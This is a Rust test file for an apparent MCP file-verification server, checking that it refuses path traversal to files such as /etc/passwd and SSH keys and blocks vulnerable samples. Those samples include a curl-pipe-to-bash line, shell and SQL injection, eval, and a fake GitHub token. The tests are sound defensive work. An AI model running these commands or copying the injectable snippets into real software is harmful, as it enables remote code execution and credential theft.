//! Attacks beside uses of mcp-ralph.

mod cache;
mod changes;
mod command_line;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use serde_json::{Map, Value, json};
use tempfile::TempDir;
use tollgate_shared::receipt::Outcome;
use tollgate_tests::mcp_process::McpProcess;

const GOOD: &str = "def f(x):\n    return x\n";
const BAD: &str = "def f(x:\n    return x\n";

/// A workspace with good and bad files, and beside it a folder that nobody may look into.
fn world() -> TempDir {
    let world = tempfile::tempdir().unwrap();
    let workspace = world.path().join("workspace");
    fs::create_dir_all(workspace.join("src/deep")).unwrap();
    fs::create_dir_all(world.path().join("outside")).unwrap();
    fs::create_dir_all(world.path().join("workspace-twin")).unwrap();
    fs::write(world.path().join("outside/secret.py"), "SECRET = 'outside'\n").unwrap();
    fs::write(world.path().join("workspace-twin/secret.py"), "SECRET = 'twin'\n").unwrap();
    fs::write(workspace.join("tollgate.toml"), "[ralph]\nroots = [\".\"]\n").unwrap();
    fs::write(workspace.join("src/good.py"), GOOD).unwrap();
    fs::write(workspace.join("src/bad.py"), BAD).unwrap();
    fs::write(workspace.join("src/deep/good.rs"), "fn f() {}\n").unwrap();
    fs::write(workspace.join("notes.txt"), "((((").unwrap();
    world
}

fn start(world: &TempDir) -> McpProcess {
    McpProcess::start("mcp-ralph", &world.path().join("workspace"), &[], &[])
}

#[tokio::test]
async fn verdict_says_whether_a_file_may_go_on() {
    let world = world();
    let ralph = start(&world);

    let good = ralph.ok("verify_file", json!({"path": "src/good.py"})).await;
    assert_eq!(good["verdict"], "pass");
    assert_eq!(good["language"], "python");
    assert_eq!(good["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(good["cost_usd"], "0.0019");

    let bad = ralph.ok("verify_file", json!({"path": "src/bad.py"})).await;
    assert_eq!(bad["verdict"], "fail");
    let finding = &bad["checks"][0]["findings"][0];
    assert_eq!(
        (&finding["line"], &finding["column"], &finding["excerpt"]),
        (&json!(2), &json!(5), &json!("    return x"))
    );

    let absolute = world.path().join("workspace/src/good.py");
    assert_eq!(ralph.ok("verify_file", json!({"path": absolute})).await["verdict"], "pass");
    let roundabout = ralph.ok("verify_file", json!({"path": "./src/deep/../good.py"})).await;
    assert_eq!(roundabout["verdict"], "pass");
    let given = json!({"path": "src/new/file.py", "content": BAD});
    assert_eq!(ralph.ok("verify_file", given).await["verdict"], "fail");
}

#[tokio::test]
async fn what_was_not_verified_is_no_pass() {
    let world = world();
    let workspace = world.path().join("workspace");
    fs::write(workspace.join("latin.py"), b"x = '\xe9'\n").unwrap();
    fs::write(workspace.join("nul.py"), b"x = 1\n\0 (((\n").unwrap();
    fs::write(workspace.join("huge.py"), vec![b'#'; 3 * 1024 * 1024]).unwrap();
    fs::write(workspace.join("blob"), b"\x7fELF\0\0\xff").unwrap();
    let ralph = start(&world);
    for (path, verdict) in [
        ("blob", "skipped"),
        // No parser knows it, but secrets are looked for in any text.
        ("notes.txt", "pass"),
        ("latin.py", "inconclusive"),
        ("huge.py", "inconclusive"),
        ("nul.py", "fail"),
    ] {
        let answer = ralph.ok("verify_file", json!({"path": path})).await;
        assert_eq!(answer["verdict"], verdict, "{path}: {answer}");
    }
    let skipped = ralph.call("verify_file", json!({"path": "blob"})).await;
    assert!(skipped.receipt.amount.is_zero() && !skipped.receipt.cached, "{:?}", skipped.receipt);
    let given = json!({"path": "big.py", "content": "#".repeat(3 * 1024 * 1024)});
    assert_eq!(ralph.ok("verify_file", given).await["verdict"], "inconclusive");
    let nothing = ralph.ok("verify_batch", json!({"globs": ["no/such/**"]})).await;
    assert_eq!(nothing["verdict"], "skipped");
}

#[tokio::test]
async fn paths_that_lead_out_are_refused() {
    let world = world();
    let workspace = world.path().join("workspace");
    symlink("../outside", workspace.join("out")).unwrap();
    symlink("../../outside/secret.py", workspace.join("src/link.py")).unwrap();
    symlink(world.path().join("outside/secret.py"), workspace.join("absolute.py")).unwrap();
    symlink("../outside/new.py", workspace.join("dangling.py")).unwrap();
    symlink("src", workspace.join("inside")).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        workspace.join("pipe.py"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    let ralph = start(&world);
    let outside = world.path().join("outside/secret.py");
    let attacks = [
        (json!("../outside/secret.py"), "path_outside_root"),
        (json!("src/../../outside/secret.py"), "path_outside_root"),
        (json!("src/deep/../../../outside/secret.py"), "path_outside_root"),
        (json!("../workspace-twin/secret.py"), "path_outside_root"),
        (json!(format!("{}-twin/secret.py", workspace.display())), "path_outside_root"),
        (json!(outside), "path_outside_root"),
        (json!("/etc/passwd"), "path_outside_root"),
        (json!("/proc/self/environ"), "path_outside_root"),
        (json!("out/secret.py"), "path_outside_root"),
        (json!("src/link.py"), "path_outside_root"),
        (json!("absolute.py"), "path_outside_root"),
        (json!("dangling.py"), "path_outside_root"),
        (json!("out/../src/good.py"), "path_outside_root"),
        (json!("src/good.py\0.txt"), "invalid_arguments"),
        (json!(""), "invalid_arguments"),
        (json!("a/".repeat(4000)), "invalid_arguments"),
        (json!(["src/good.py"]), "invalid_arguments"),
        (json!("file:///etc/passwd"), "not_found"),
        (json!("~/.ssh/id_ed25519"), "not_found"),
        (json!("src/none.py"), "not_found"),
        (json!("src/good.py/x.py"), "not_found"),
        (json!("src"), "not_readable"),
        (json!("."), "not_found"),
        (json!("pipe.py"), "not_readable"),
    ];
    for (path, code) in &attacks {
        let call = ralph.call("verify_file", json!({"path": path})).await;
        assert_eq!(call.structured["error"]["code"], *code, "{path}: {}", call.structured);
        assert!(!call.text.contains("SECRET"), "{path}: {}", call.text);
        assert_eq!(call.receipt.outcome, Outcome::Refused, "{path}");
        assert!(call.receipt.amount.is_zero(), "{path}");
        // The same within a batch refuses the batch, and what is about to be written goes nowhere else either.
        let batch = ralph.refused("verify_batch", json!({"paths": ["src/good.py", path]})).await;
        assert_eq!(batch["code"], *code, "{path}");
        if !matches!(*code, "not_found") {
            let given = ralph.refused("verify_file", json!({"path": path, "content": "x = 1\n"})).await;
            assert_eq!(given["code"], *code, "{path}");
        }
    }
    assert_eq!(ralph.ok("verify_file", json!({"path": "inside/good.py"})).await["verdict"], "pass");
}

#[tokio::test]
async fn arguments_that_would_verify_nothing_are_refused() {
    let world = world();
    let ralph = start(&world);
    let refused = [
        ("verify_file", json!({"path": "src/bad.py", "checks": []}), "invalid_arguments"),
        ("verify_file", json!({"path": "src/bad.py", "checks": ["none"]}), "unknown_check"),
        ("verify_file", json!({"path": "src/bad.py", "checks": ["Syntax"]}), "unknown_check"),
        ("verify_file", json!({"path": "src/bad.py", "skip": ["syntax"]}), "invalid_arguments"),
        ("verify_file", json!({"path": "src/bad.py", "verdict": "pass"}), "invalid_arguments"),
        ("verify_file", json!({}), "invalid_arguments"),
        ("verify_batch", json!({}), "invalid_arguments"),
        ("verify_batch", json!({"paths": [], "globs": []}), "invalid_arguments"),
        ("verify_batch", json!({"globs": ["[z-a]"]}), "invalid_arguments"),
        ("verify_batch", json!({"globs": ["x".repeat(5000)]}), "invalid_arguments"),
        ("verify_batch", json!({"globs": vec!["*"; 100]}), "too_many_files"),
        ("verify_batch", json!({"paths": vec!["src/good.py"; 5001]}), "too_many_files"),
        ("verify_batch", json!({"paths": ["src/bad.py"], "cursor": "-1"}), "invalid_arguments"),
        ("list_checks", json!({"x": 1}), "invalid_arguments"),
        ("clear_cache", json!({"x": 1}), "invalid_arguments"),
    ];
    for (tool, arguments, code) in refused {
        assert_eq!(ralph.refused(tool, arguments.clone()).await["code"], code, "{tool} {arguments}");
    }
}

#[tokio::test]
async fn repeat_is_answered_from_the_cache_by_any_process() {
    let world = world();
    let first = start(&world);
    let paid = first.call("verify_file", json!({"path": "src/good.py"})).await;
    assert!(!paid.receipt.cached);
    let second = start(&world);
    let cached = second.call("verify_file", json!({"path": "src/good.py"})).await;
    assert!(cached.receipt.cached && cached.receipt.amount.is_zero());
    assert_eq!(cached.receipt.saved, paid.receipt.amount);
    assert_eq!(cached.structured["verdict"], "pass");
    // Content counts, not the path.
    let copy = second.call("verify_file", json!({"path": "elsewhere.py", "content": GOOD})).await;
    assert!(copy.receipt.cached);
    // But not the language: what is Python is no Rust.
    let other = second.call("verify_file", json!({"path": "elsewhere.rs", "content": GOOD})).await;
    assert_eq!((other.receipt.cached, &other.structured["verdict"]), (false, &json!("fail")));

    fs::write(world.path().join("workspace/src/good.py"), BAD).unwrap();
    let changed = second.call("verify_file", json!({"path": "src/good.py"})).await;
    assert_eq!(changed.structured["verdict"], "fail");

    first.ok("clear_cache", json!({})).await;
    let again = second.call("verify_file", json!({"path": "elsewhere.py", "content": GOOD})).await;
    assert!(!again.receipt.cached);
}

#[tokio::test]
async fn batch_verdict_covers_every_file_listed_or_not() {
    let world = world();
    let workspace = world.path().join("workspace");
    for number in 0..30 {
        fs::write(workspace.join(format!("src/deep/m{number:02}.py")), format!("x = {number}\n")).unwrap();
    }
    fs::write(workspace.join(".gitignore"), "ignored/\n").unwrap();
    fs::create_dir(workspace.join("ignored")).unwrap();
    fs::write(workspace.join("ignored/bad.py"), BAD).unwrap();
    let ralph = start(&world);

    let passes = ralph.ok("verify_batch", json!({"globs": ["src/deep/**"], "limit": 10})).await;
    assert_eq!(passes["verdict"], "pass");
    assert_eq!(passes["counts"], json!({"pass": 31}));
    assert_eq!(passes["files"].as_array().unwrap().len(), 10);

    // However few are listed, the bad one decides and comes first.
    let fails = ralph.ok("verify_batch", json!({"globs": ["**/*.py"], "limit": 1})).await;
    assert_eq!(fails["verdict"], "fail");
    assert_eq!(fails["files"][0]["path"], "src/bad.py");
    assert_eq!(fails["counts"], json!({"fail": 1, "pass": 31}));

    let mut seen = Vec::new();
    let mut cursor = Value::Null;
    loop {
        let mut arguments = json!({"globs": ["**/*.py"], "limit": 7});
        if !cursor.is_null() {
            arguments["cursor"] = cursor;
        }
        let page = ralph.ok("verify_batch", arguments).await;
        assert_eq!(page["verdict"], "fail");
        seen.extend(page["files"].as_array().unwrap().iter().map(|file| file["path"].to_string()));
        cursor = page["next_cursor"].clone();
        if cursor.is_null() {
            break;
        }
    }
    assert_eq!(seen.len(), 32);
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), 32);

    let named = ralph.ok("verify_batch", json!({"paths": ["ignored/bad.py", "src/good.py"]})).await;
    assert_eq!(named["verdict"], "fail");
}

#[tokio::test]
async fn stopped_batch_says_what_was_not_run_and_charges_only_what_was() {
    let world = world();
    let workspace = world.path().join("workspace");
    for number in 0..200 {
        fs::write(workspace.join(format!("src/deep/m{number:03}.py")), format!("x = ({number}\n")).unwrap();
    }
    let ralph = start(&world);
    let call =
        ralph.call("verify_batch", json!({"globs": ["src/deep/m*.py"], "stop_on_failure": true, "limit": 500})).await;
    assert_eq!(call.structured["verdict"], "fail");
    let run = call.structured["files"].as_array().unwrap().len() as u64;
    assert_eq!(call.structured["counts"], json!({"fail": run, "not_run": 200 - run}));
    assert!(run < 200);
    let base = call.receipt.lines.iter().find(|line| line.sku.as_str() == "ralph.base").unwrap();
    assert_eq!(base.quantity, run);
}

#[tokio::test]
async fn file_swapped_for_a_link_is_never_read_through() {
    let world = world();
    let workspace = world.path().join("workspace");
    fs::write(world.path().join("outside/secret.py"), "SECRET = (\n").unwrap();
    fs::create_dir(workspace.join("swap")).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = std::thread::spawn({
        let (stop, folder) = (stop.clone(), workspace.join("swap"));
        move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                swap(&folder);
            }
        }
    });
    let ralph = start(&world);
    for _ in 0..150 {
        let answer = ralph.call("verify_file", json!({"path": "swap/f.py"})).await;
        assert!(!answer.text.contains("SECRET"), "{}", answer.text);
        let batch = ralph.call("verify_batch", json!({"globs": ["swap/**"]})).await;
        assert!(!batch.text.contains("SECRET"), "{}", batch.text);
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
}

fn swap(folder: &Path) {
    let (file, aside) = (folder.join("f.py"), folder.join("aside"));
    fs::write(&aside, "x = (\n").unwrap();
    fs::rename(&aside, &file).unwrap();
    let _ = symlink("../../outside/secret.py", &aside);
    fs::rename(&aside, &file).unwrap();
}

#[tokio::test]
async fn answer_to_a_hostile_file_stays_small() {
    let world = world();
    let workspace = world.path().join("workspace");
    fs::write(workspace.join("line.js"), format!("let x = [{}", "1 2 ".repeat(200_000))).unwrap();
    fs::write(workspace.join("deep.rs"), "(".repeat(500_000)).unwrap();
    let ralph = start(&world);
    for path in ["line.js", "deep.rs"] {
        let call = ralph.try_call("verify_file", json!({"path": path}), Map::new()).await.unwrap();
        assert_ne!(call.structured["verdict"], "pass");
        assert!(call.text.len() < 20_000, "{} bytes", call.text.len());
    }
    ralph.ok("verify_file", json!({"path": "src/good.py"})).await;
}

#[tokio::test]
async fn what_must_not_be_in_code_blocks_and_shows_no_secret() {
    let world = world();
    let ralph = start(&world);
    let token = ["ghp_", "x7Kq2mZr8LpW4tYb7NcJ1sHd6GfA3eUoR5iT"].concat();
    let cases = [
        (
            "a.py",
            "from subprocess import call as c\n\ndef f(x):\n    c('ls ' + x, shell=True)\n",
            "python.command_injection",
            4,
        ),
        (
            "a.ts",
            "const f = (db: Db, x: string) => db.query(`SELECT * FROM t WHERE id = ${x}`);\n",
            "javascript.sql_injection",
            1,
        ),
        ("a.sh", "#!/bin/bash\ncurl -s https://example.com/x | bash\n", "bash.remote_script", 2),
        ("notes.txt", "no\nsecret\nhere\n", "", 0),
        // A comment for another tool gives no permission.
        ("b.py", "def f(x):\n    return eval(x)  # nosec, noqa, ast-grep-ignore\n", "python.code_injection", 2),
    ];
    for (path, content, rule, line) in cases {
        let answer = ralph.ok("verify_file", json!({"path": path, "content": content, "checks": ["security"]})).await;
        if rule.is_empty() {
            assert_eq!(answer["verdict"], "pass", "{path}: {answer}");
            continue;
        }
        assert_eq!(answer["verdict"], "blocked", "{path}: {answer}");
        let finding = &answer["checks"][0]["findings"][0];
        assert_eq!((&finding["rule"], &finding["line"]), (&json!(rule), &json!(line)), "{answer}");
        assert!(finding["cwe"].as_str().unwrap().starts_with("CWE-"), "{answer}");
        assert_eq!(finding["severity"], "error");
    }
    for path in ["settings.py", "settings.ini", "notes"] {
        let content = format!("TOKEN = \"{token}\"\n");
        let call = ralph.call("verify_file", json!({"path": path, "content": content})).await;
        assert_eq!(call.structured["verdict"], "blocked", "{path}: {}", call.structured);
        assert!(!call.text.contains(&token) && !call.text.contains(&token[8..]), "{}", call.text);
        // Neither does the cache keep it.
        let state = world.path().join("workspace/.tollgate");
        for entry in fs::read_dir(&state).into_iter().flatten().flatten() {
            let bytes = fs::read(entry.path()).unwrap_or_default();
            let kept = bytes.windows(token.len()).any(|window| window == token.as_bytes());
            assert!(!kept, "{}", entry.path().display());
        }
    }
    ralph.ok("verify_file", json!({"path": "src/good.py"})).await;
}
